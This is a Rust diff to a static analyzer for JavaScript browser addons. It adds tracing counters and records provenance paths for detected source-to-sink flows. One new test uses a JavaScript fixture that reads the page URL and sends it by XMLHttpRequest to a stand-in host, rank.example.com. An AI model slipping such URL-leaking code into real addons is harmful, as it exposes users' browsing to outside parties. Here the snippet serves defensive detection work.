@@ -3,10 +3,11 @@
 
 use crate::flowtype::FlowLattice;
 use crate::propagate::propagate;
-use crate::signature::{FlowEntry, SigSink, Signature};
+use crate::signature::{FlowEntry, ProvenanceStep, SigSink, Signature};
 use jsanalysis::{AnalysisResult, SourceKind};
 use jsir::{Lowered, StmtId};
 use jspdg::Pdg;
+use sigtrace::{Counter, Counters, Trace};
 use std::collections::{BTreeMap, BTreeSet};
 
 /// Infers the security signature of an analyzed addon.
@@ -21,7 +22,22 @@ pub fn infer_signature(
     pdg: &Pdg,
     lattice: &FlowLattice,
 ) -> Signature {
+    infer_signature_traced(lowered, analysis, pdg, lattice, &mut Trace::Off)
+}
+
+/// Signature inference with an observability hook: `trace` receives one
+/// `propagate` sub-span per interesting source kind plus the phase-3
+/// counters (propagation steps, flow-type raises, reported flows). With
+/// [`Trace::Off`] this is [`infer_signature`].
+pub fn infer_signature_traced(
+    lowered: &Lowered,
+    analysis: &AnalysisResult,
+    pdg: &Pdg,
+    lattice: &FlowLattice,
+    trace: &mut Trace<'_>,
+) -> Signature {
     let mut sig = Signature::new();
+    let mut counters = Counters::new();
 
     // Group source statements by kind, keeping only reachable ones.
     let mut by_kind: BTreeMap<SourceKind, BTreeSet<StmtId>> = BTreeMap::new();
@@ -53,7 +69,11 @@ pub fn infer_signature(
         .collect();
 
     for (kind, sources) in &by_kind {
+        trace.span_start("propagate");
         let flow_types = propagate(lattice, pdg, sources);
+        trace.span_end("propagate");
+        counters.add(Counter::FlowPropSteps, flow_types.steps);
+        counters.add(Counter::FlowTypeRaises, flow_types.raises);
         for (sink_stmt, sig_sink) in &sinks {
             for t in flow_types.at(lattice, *sink_stmt) {
                 let entry = FlowEntry {
@@ -68,6 +88,23 @@ pub fn infer_signature(
                         lowered.program.stmt(*sink_stmt).span,
                     )
                 });
+                // Provenance: the PDG path that first established this
+                // flow type at the sink. First writer wins: the path is
+                // already the one for the strongest (reported) type, and
+                // kinds iterate deterministically.
+                if !sig.provenance.contains_key(&entry) {
+                    if let Some(path) = flow_types.provenance(*sink_stmt, t) {
+                        let steps = path
+                            .into_iter()
+                            .map(|(stmt, edge)| ProvenanceStep {
+                                stmt,
+                                line: lowered.program.stmt(stmt).span.line,
+                                edge,
+                            })
+                            .collect();
+                        sig.provenance.insert(entry.clone(), steps);
+                    }
+                }
                 sig.add_flow(entry, witness);
             }
         }
@@ -85,6 +122,10 @@ pub fn infer_signature(
         }
     }
 
+    if trace.is_enabled() {
+        counters.add(Counter::SignatureFlows, sig.flows.len() as u64);
+        trace.add_counters(&counters);
+    }
     sig
 }
 
@@ -196,6 +237,34 @@ function dead() {
         );
         // `dead` is never called nor registered: nothing to report.
         assert!(sig.flows.is_empty(), "unreachable flow reported:\n{sig}");
+    }
+
+    #[test]
+    fn provenance_paths_start_at_the_source_and_end_at_the_sink() {
+        let sig = infer(
+            r#"
+var url = content.location.href;
+var req = new XMLHttpRequest();
+req.open("GET", "http://rank.example.com/q?u=" + url);
+req.send(null);
+"#,
+        );
+        let entry = sig
+            .flows_to(&SinkKind::Send)
+            .find(|e| e.source == SourceKind::Url && e.flow == t(1))
+            .cloned()
+            .expect("url --type1--> send inferred");
+        let path = sig.provenance.get(&entry).expect("flow has provenance");
+        assert!(path.len() >= 2, "a flow path spans at least source and sink");
+        let first = path.first().unwrap();
+        let last = path.last().unwrap();
+        assert_eq!(first.line, 2, "path starts at the source read");
+        assert!(first.edge.is_some(), "inner steps carry edge annotations");
+        assert!(last.edge.is_none(), "the sink ends the path");
+        assert!(
+            path.iter().take(path.len() - 1).all(|s| s.edge.is_some()),
+            "every non-final step records its outgoing edge"
+        );
     }
 
     #[test]
